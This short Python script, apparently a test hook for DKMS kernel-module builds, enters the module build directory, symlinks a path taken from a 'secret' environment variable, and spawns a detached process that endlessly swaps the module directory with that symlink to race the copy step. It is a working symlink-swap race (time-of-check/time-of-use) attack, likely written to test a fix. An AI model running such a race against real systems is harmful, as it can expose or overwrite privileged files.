#!/usr/bin/python3
# Somebody stays behind and swaps the directory of the modules while it is copied.
import os
os.chdir('/'.join(os.environ[name] for name in ('dkms_tree', 'module', 'module_version', 'kernelver', 'arch')))
os.symlink(os.environ['secret'], 'other')
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            os.rename('module', 'saved')
            os.rename('other', 'module')
            os.rename('module', 'other')
            os.rename('saved', 'module')
    os._exit(0)
os.wait()
